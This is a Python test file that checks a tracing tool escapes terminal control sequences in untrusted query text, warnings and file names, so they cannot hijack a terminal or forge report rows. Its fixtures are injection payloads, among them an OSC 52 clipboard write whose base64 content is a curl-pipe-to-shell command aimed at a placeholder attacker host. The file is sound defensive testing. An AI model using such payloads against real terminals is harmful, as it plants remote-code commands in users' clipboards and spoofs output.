"""Text from a node or a user never reaches a terminal raw (casstrace.terminal): OSC 52 (the
clipboard), DCS, C1 controls, the one-byte CSI 0x9b and newlines are shown escaped in every text and
live output, and cannot forge a row of a table."""

import json
import re
import subprocess
import sys

import pytest

from casstrace.analyses.watch import ComponentRead, StatementIO, Watch
from casstrace.reports import ReportOptions, render
from casstrace.reports.watch import document
from casstrace.terminal import json_printable, printable
from casstrace_cli import CASSTRACE
from synthetic_traces import wide_select_c0

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # writes the clipboard
DCS = "\x1bP1$qm\x1b\\"  # a device control string, ended by ST
C1 = "\x9d0;pwned\x9c"  # OSC and ST as one-byte C1 controls
CSI = "\x9b2J"  # the one-byte CSI: clears the screen
FORGED_ROW = "x\n  1  SELECT * FROM forged  1  1"
BIDI = "\u202eevil\u2066"
PAYLOADS = [OSC52, DCS, C1, CSI, FORGED_ROW, "a\rb", "\x7f", "\u2028", BIDI, "\t"]


def raw_controls(text: str) -> list[str]:
    """The characters a terminal would obey (the newlines between lines, and casstrace's own colours
    excepted)."""
    return [
        c
        for c in re.sub(r"\x1b\[[0-9;]*m", "", text)
        if c != "\n" and (ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in "\u2028\u2029\u202e\u2066")
    ]


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_printable_leaves_nothing_a_terminal_obeys(payload):
    shown = printable(f'SELECT v AS "{payload}" FROM ks.t')
    assert raw_controls(shown) == [] and "\n" not in shown
    assert printable(shown) == shown  # escaping twice changes nothing


def test_printable_says_what_was_there():
    assert printable(OSC52).startswith("\\x1b]52;c;") and printable(OSC52).endswith("\\x07")
    assert printable(CSI) == "\\x9b2J"
    assert printable("a\nb") == "a\\nb"
    assert printable("été — ok") == "été — ok"  # printable text, accents and dashes are left alone


def _statement(text: str) -> StatementIO:
    return StatementIO(
        statement=text,
        sampled_executions=3,
        estimated_executions=300,
        sstable_bytes=3000,
        estimated_sstable_bytes=300000.0,
        sstable_read_bytes_per_execution=1000.0,
        data_read_bytes_per_execution=1000.0,
        components=[ComponentRead("ks.t", "Data", 1000.0, 1000.0, 0.0)],
        rows_per_execution=1.0,
        bytes_per_row=1000.0,
        latency_p50_s=None,
        latency_p99_s=None,
        consistency=["ONE"],
        unmatched_threads=["Thread\x1b]0;title\x07"],
        run_command=f"casstrace run '{text}'",
    )


def _watch(statements: list[StatementIO]) -> Watch:
    return Watch(
        trace_path="w.trace",
        complete=True,
        warnings=["a node said \x1b]52;c;AAAA\x07"],
        notes=[],
        duration_s=10.0,
        probability=0.01,
        statements=statements,
        sstable_bytes=3000,
        explained_bytes=3000,
        unexplained=[],
        context={},
    )


HOSTILE = [f'SELECT v AS "{payload}" FROM ks.t WHERE k = ?' for payload in PAYLOADS]


@pytest.mark.parametrize("format_", ["text", "md", "json"])
def test_a_watch_report_shows_hostile_statements_escaped(format_):
    report = render(document(_watch([_statement(s) for s in HOSTILE])), format_, ReportOptions(color=True))
    assert raw_controls(report) == []
    if format_ == "json":  # the same statements, escaped the JSON way
        assert [s["query"] for s in json.loads(report)["statements"]] == HOSTILE
    else:  # no forged row: the table has one row per statement, and no line starts the forged one
        assert not any(line.lstrip().startswith("1  SELECT * FROM forged") for line in report.splitlines())


def test_the_statements_table_keeps_one_row_per_statement():
    report = render(document(_watch([_statement(s) for s in HOSTILE])), "text", ReportOptions(color=False))
    rows = [line for line in report.splitlines() if re.match(r"\s+\d+\s+SELECT", line)]
    assert len(rows) == len(HOSTILE)


def test_the_live_table_escapes_statements(monkeypatch, capsys):
    from casstrace.cli.watch import LiveTable

    LiveTable(top=20)(_watch([_statement(s) for s in HOSTILE]))
    shown = capsys.readouterr().err
    assert raw_controls(shown) == []
    assert len(shown.splitlines()) == 2 + len(HOSTILE)  # its header, then one line per statement


def test_json_printable_keeps_the_data():
    document_ = json.dumps({"q": "a\x9bb\x85c\u2028"}, ensure_ascii=False)
    assert raw_controls(json_printable(document_)) == []
    assert json.loads(json_printable(document_)) == {"q": "a\x9bb\x85c\u2028"}


@pytest.mark.parametrize("format_", ["text", "md", "json"])
def test_report_of_a_trace_with_a_hostile_query(tmp_path, format_):
    trace = tmp_path / "hostile.trace"
    wide_select_c0(trace, query=f'SELECT c0 AS "{OSC52}{CSI}{FORGED_ROW}" FROM demo.wide WHERE id = 1')
    done = subprocess.run([*CASSTRACE, "report", str(trace), "--format", format_], capture_output=True, timeout=120)
    assert done.returncode == 0, done.stderr
    shown = done.stdout.decode()
    assert raw_controls(shown) == [] and "\x1b]52" not in shown
    assert not any(line.lstrip().startswith("1  SELECT * FROM forged") for line in shown.splitlines())


def test_an_error_line_escapes_what_the_user_gave(tmp_path):
    done = subprocess.run(
        [*CASSTRACE, "report", str(tmp_path / f"missing{OSC52}\n.trace")], capture_output=True, timeout=120
    )
    assert done.returncode == 2
    assert b"\x1b" not in done.stderr and len(done.stderr.splitlines()) == 1, done.stderr


def test_printable_is_linear():
    """A megabyte of control characters is escaped at once (str.translate: one pass)."""
    text = (OSC52 + CSI + "\n") * 20_000
    shown = printable(text)
    assert raw_controls(shown) == [] and sys.getsizeof(shown) > len(text)
